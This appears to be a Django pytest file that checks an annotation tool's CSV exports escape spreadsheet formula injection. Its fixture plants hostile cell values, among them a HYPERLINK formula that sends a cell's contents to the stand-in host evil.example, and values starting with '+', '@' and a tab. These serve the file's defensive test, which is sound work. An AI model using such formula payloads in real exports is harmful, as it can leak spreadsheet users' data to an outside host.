"""Every CSV export goes through one writer (annotate/csvexport.py): text that a spreadsheet
would run as a formula gets a leading quote, numbers stay numbers."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from annotate.datasets.access import membership_set
from annotate.datasets.models import Role
from tests.conftest import PASSWORD
from tests.dashboards.conftest import add_verdicts

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def as_lee(client: Client) -> Client:
    client.login(username="lee", password=PASSWORD)
    return client


def table(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.fixture
def hostile(small, dataset, ann):
    """An item, a label and an annotator whose names a spreadsheet would run; both annotators
    disagree on every item, so Cohen's kappa is negative."""
    item = small.items[0]
    item.external_id = LINK
    item.save()
    label = small.labels[0]
    label.key, label.name = "+1+cmd", "\tindented"
    label.save()
    mallory = User.objects.create_user(username="@mallory", password=PASSWORD)
    membership_set(dataset=dataset, user=mallory, role=Role.ANNOTATOR)
    add_verdicts(
        [(si, ann, "hit" if i % 2 else "miss") for i, si in enumerate(small.sample_items)]
        + [(si, mallory, "miss" if i % 2 else "hit") for i, si in enumerate(small.sample_items)]
    )
    return small


def test_verdict_export_neutralises_formula_cells(client: Client, hostile) -> None:
    url = f"/api/samples/{hostile.sample.pk}/verdicts/"
    rows = table(as_lee(client).get(url, {"format": "csv"}))
    first = [r for r in rows if r["position"] == "0"]
    assert {r["external_id"] for r in first} == {"'" + LINK}
    assert {r["label"] for r in first} == {"'+1+cmd"}
    assert {r["annotator"] for r in rows} == {"ann", "'@mallory"}
    assert all(float(r["probability"]) >= 0 for r in rows)  # numbers stay numbers
    # The JSON export carries the values as they are.
    data = client.get(url, {"format": "json"}).json()
    records = data["results"] if isinstance(data, dict) else data
    assert LINK in {r["external_id"] for r in records}


def test_dashboard_csvs_neutralise_formula_cells(client: Client, hostile) -> None:
    base = f"/samples/{hostile.sample.pk}/dashboard"
    as_lee(client)
    classes = table(client.get(f"{base}/classes.csv"))
    assert "'\tindented" in {r["label"] for r in classes}
    assert "'+1+cmd" in {r["label_key"] for r in classes}
    annotators = table(client.get(f"{base}/annotators.csv"))
    assert {r["annotator"] for r in annotators} == {"ann", "'@mallory"}
    (pair,) = table(client.get(f"{base}/agreement.csv"))
    assert pair["a"] == "'@mallory"
    assert float(pair["kappa"]) == -1.0
    assert pair["kappa"].startswith("-")
